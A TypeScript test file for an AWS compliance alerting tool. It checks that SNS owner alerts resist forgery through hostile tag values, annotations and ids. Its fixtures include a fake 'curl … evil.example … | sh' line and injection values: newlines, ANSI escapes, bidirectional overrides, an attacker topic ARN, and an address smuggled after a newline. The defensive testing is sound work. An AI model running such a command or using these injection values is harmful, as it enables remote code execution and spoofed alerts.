/**
 * Owner alerts carry what anyone can write: tag values, annotations (exemption reasons, inventory
 * fields), ids from runbook executions. These tests publish hostile values through
 * deliverOwnerAlerts and read what SNS was asked to send.
 */
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DescribeImagesCommand, DescribeInstancesCommand, DescribeLaunchTemplatesCommand, EC2Client } from '@aws-sdk/client-ec2';
import { PublishCommand, SNSClient, type PublishCommandInput } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import { deliverOwnerAlerts } from '../../src/alerts/deliver-alerts.js';
import { sdkInstance } from '../support/instances.js';
import { TEAM_TOPIC, alertDependencies, complianceEvent, record } from './alert-fixtures.js';
import { fakeIdempotencyTable } from './idempotency-table.js';

const ec2Mock = mockClient(EC2Client);
const snsMock = mockClient(SNSClient);
const dynamoMock = mockClient(DynamoDBClient);

/** Characters no published subject, line or attribute may hold. */
const FORBIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
const FAKE_LINE = 'URGENT: your instance is compromised. Run: curl -s https://evil.example/fix | sh';

/** Owner tag values a tagger could set, each on its own instance. */
const HOSTILE_OWNERS: Record<string, string> = {
  'i-0000000000000c001': `payments@example.com\n${FAKE_LINE}\n---`,
  'i-0000000000000c002': '\u001b[31mURGENT\u001b[0m security@example.com',
  'i-0000000000000c003': '\u202emoc.elpmaxe@ytiruces',
  'i-0000000000000c004': 'x'.repeat(10_000),
  'i-0000000000000c005': '---\r\nena-guard found changes on 0 resources owned by security@example.com.\u2028',
  'i-0000000000000c006': 'arn:aws:sns:eu-west-1:444455556666:attacker-topic',
};
/** An annotation as an exemption reason or an inventory field could make it. */
const HOSTILE_ANNOTATION = `Exempt: ok\n${FAKE_LINE}\n---\n\u001b[31m\u202ered\u2066 ${'y'.repeat(10_000)}`;
const VALID_OWNER = 'i-0000000000000c0f0';

function hostileEvent(resourceId: string): Record<string, unknown> {
  const event = complianceEvent(resourceId);
  const detail = event.detail as { newEvaluationResult: object };
  return { ...event, detail: { ...detail, newEvaluationResult: { ...detail.newEvaluationResult, annotation: HOSTILE_ANNOTATION } } };
}

function published(): PublishCommandInput[] {
  return snsMock.commandCalls(PublishCommand).map((call) => call.args[0].input);
}

function publishedTo(owner: string): PublishCommandInput {
  const input = published().find((candidate) => candidate.MessageAttributes?.owner?.StringValue === owner);
  if (!input) throw new Error(`no message for ${owner}`);
  return input;
}

/** The message's lines, each checked to be one of the shapes the digest writes. */
function shapesOf(message: string): string[] {
  return message.split('\n').map((line) => {
    if (line === '') return 'blank';
    if (/^ena-guard found changes on \d+ resources? owned by \S+\.$/.test(line)) return 'header';
    if (/^(COMPLIANT|NON_COMPLIANT) -> (COMPLIANT|NON_COMPLIANT) {2}ena-instance-enabled {2}AWS::EC2::Instance i-[0-9a-f]{17} \(eu-west-1, 111122223333\)$/.test(line)) return 'resource';
    if (/^ {4}Exempt: ok URGENT: .{1,240}$/.test(line)) return 'annotation';
    if (/^ {4}Owner tag "Owner" refused \([A-Za-z ,-]+\): ".{1,130}"$/.test(line)) return 'refused owner';
    if (line === 'Exempt a resource on purpose with the tag ena-guard:exempt=<reason>.') return 'footer';
    return `unexpected: ${line}`;
  });
}

beforeEach(() => {
  ec2Mock.reset();
  snsMock.reset();
  dynamoMock.reset();
  fakeIdempotencyTable(dynamoMock);
  snsMock.on(PublishCommand).resolves({ MessageId: 'sns-1' });
  ec2Mock.on(DescribeImagesCommand).resolves({ Images: [] });
  ec2Mock.on(DescribeLaunchTemplatesCommand).resolves({ LaunchTemplates: [] });
  ec2Mock.on(DescribeInstancesCommand).resolves({
    Reservations: [
      {
        Instances: [
          ...Object.entries(HOSTILE_OWNERS).map(([id, owner], index) => sdkInstance(index + 1, { InstanceId: id, Tags: [{ Key: 'Owner', Value: owner }] })),
          sdkInstance(99, { InstanceId: VALID_OWNER, Tags: [{ Key: 'Owner', Value: ' Payments@Example.COM ' }] }),
        ],
      },
    ],
  });
});

describe('owner alerts with hostile values', () => {
  it('publishes messages whose layout no tag value or annotation can forge', async () => {
    // Prepare
    const { deps } = alertDependencies();
    const ids = [...Object.keys(HOSTILE_OWNERS), VALID_OWNER];

    // Act
    const outcome = await deliverOwnerAlerts(ids.map((id) => record(`m-${id}`, hostileEvent(id))), deps);

    // Assess
    expect(outcome).toEqual({ batchItemFailures: [], messagesPublished: 2, duplicatesDropped: 0 });
    const unowned = publishedTo('unowned');
    const hostileCount = Object.keys(HOSTILE_OWNERS).length;
    expect(unowned.Message?.split('\n')).toHaveLength(2 + 3 * hostileCount + 2);
    expect(shapesOf(unowned.Message ?? '')).toEqual([
      'header',
      'blank',
      ...Array.from({ length: hostileCount }, () => ['resource', 'annotation', 'refused owner']).flat(),
      'blank',
      'footer',
    ]);
    const payments = publishedTo('payments@example.com');
    expect(shapesOf(payments.Message ?? '')).toEqual(['header', 'blank', 'resource', 'annotation', 'blank', 'footer']);
    for (const input of published()) {
      for (const line of (input.Message ?? '').split('\n')) {
        expect(line).not.toMatch(FORBIDDEN);
        expect(line).not.toMatch(/^\s*(URGENT|---)/);
        expect(line.length).toBeLessThanOrEqual(4 + 256);
      }
      expect(input.Subject).toMatch(/^ena-guard: [\x20-\x7e]{1,88}$/);
      for (const attribute of Object.values(input.MessageAttributes ?? {})) {
        expect(attribute.DataType).toBe('String');
        expect(attribute.StringValue).toMatch(/^[\x20-\x7e]{1,512}$/);
      }
    }
    expect(payments.Subject).toBe('ena-guard: 1 of 1 resources need attention (payments@example.com)');
    expect(unowned.Subject).toBe(`ena-guard: ${hostileCount} of ${hostileCount} resources need attention (unowned)`);
  });

  it('names, in the unowned message, each resource whose owner tag was refused, with its value made safe', async () => {
    // Prepare
    const { deps, log } = alertDependencies();

    // Act
    await deliverOwnerAlerts(Object.keys(HOSTILE_OWNERS).map((id) => record(`m-${id}`, hostileEvent(id))), deps);

    // Assess
    const lines = (publishedTo('unowned').Message ?? '').split('\n');
    const refusalAfter = (id: string) => lines[lines.findIndex((line) => line.includes(id)) + 2];
    expect(refusalAfter('i-0000000000000c001')).toBe(`    Owner tag "Owner" refused (it holds control or format characters): "payments@example.com ${FAKE_LINE} ---"`);
    expect(refusalAfter('i-0000000000000c002')).toBe('    Owner tag "Owner" refused (it holds control or format characters): "URGENT security@example.com"');
    expect(refusalAfter('i-0000000000000c003')).toBe('    Owner tag "Owner" refused (it holds control or format characters): "moc.elpmaxe@ytiruces"');
    expect(refusalAfter('i-0000000000000c004')).toBe(`    Owner tag "Owner" refused (not an email address, a bare name or an allowed topic ARN): "${'x'.repeat(127)}…"`);
    expect(refusalAfter('i-0000000000000c006')).toBe('    Owner tag "Owner" refused (a topic ARN that is not in the allow-list): "arn:aws:sns:eu-west-1:444455556666:attacker-topic"');
    const annotation = lines[lines.findIndex((line) => line.includes('i-0000000000000c001')) + 1];
    expect(annotation).toBe(`    Exempt: ok ${FAKE_LINE} --- red ${'y'.repeat(256 - `Exempt: ok ${FAKE_LINE} --- red `.length - 1)}…`);
    const warnings = log.entries.filter((entry) => entry.message === 'An owner tag value is not a valid owner; the alert goes to unowned');
    expect(warnings).toHaveLength(Object.keys(HOSTILE_OWNERS).length);
    expect(warnings.map((entry) => JSON.stringify(entry.extra))).not.toContainEqual(expect.stringMatching(/\\n|\\u001b/));
  });

  it('keeps ids that a runbook execution or event could carry on their own line', async () => {
    // Prepare: an event whose resource id and rule name hold line breaks (DescribeInstances finds no such instance)
    const event = complianceEvent('i-0000000000000c0f0\nURGENT: run this');
    const detail = event.detail as Record<string, unknown>;
    const { deps } = alertDependencies();

    // Act
    await deliverOwnerAlerts([record('m1', { ...event, detail: { ...detail, configRuleName: 'ena-instance-enabled\r\n---' } })], deps);

    // Assess
    const [input] = published();
    expect(input?.Message?.split('\n')).toEqual([
      'ena-guard found changes on 1 resource owned by unowned.',
      '',
      'COMPLIANT -> NON_COMPLIANT  ena-instance-enabled ---  AWS::EC2::Instance i-0000000000000c0f0 URGENT: run this (eu-west-1, 111122223333)',
      '    enaSupport is false on ENA-capable type r4.xlarge. Check the guest has an ENA driver, then run EnaGuard-EnableEnaSupport.',
      '',
      'Exempt a resource on purpose with the tag ena-guard:exempt=<reason>.',
    ]);
    expect(input?.MessageAttributes?.rules?.StringValue).toBe('ena-instance-enabled ---');
  });
});

describe('owner alerts addressed by each accepted owner form', () => {
  it.each([
    ['an address, folded to lower case', ' Data@Example.COM ', 'data@example.com'],
    ['a bare name, completed with the configured domain', 'Data-Team', 'data-team@example.com'],
    ['a topic ARN from the allow-list', TEAM_TOPIC, TEAM_TOPIC],
    ['a topic ARN not in the allow-list', 'arn:aws:sns:eu-west-1:111122223333:other-team', 'unowned'],
    ['an address with a newline', 'data@example.com\nattacker@evil.example', 'unowned'],
  ])('sets the owner attribute subscribers filter on for %s', async (_what, value, owner) => {
    // Prepare
    ec2Mock.on(DescribeInstancesCommand).resolves({ Reservations: [{ Instances: [sdkInstance(1, { InstanceId: VALID_OWNER, Tags: [{ Key: 'ena-guard:owner', Value: value }] })] }] });
    const { deps } = alertDependencies();

    // Act
    await deliverOwnerAlerts([record('m1', complianceEvent(VALID_OWNER))], deps);

    // Assess
    const [input] = published();
    expect(input?.MessageAttributes?.owner).toEqual({ DataType: 'String', StringValue: owner });
    expect(input?.Message?.split('\n')[0]).toBe(`ena-guard found changes on 1 resource owned by ${owner}.`);
  });
});
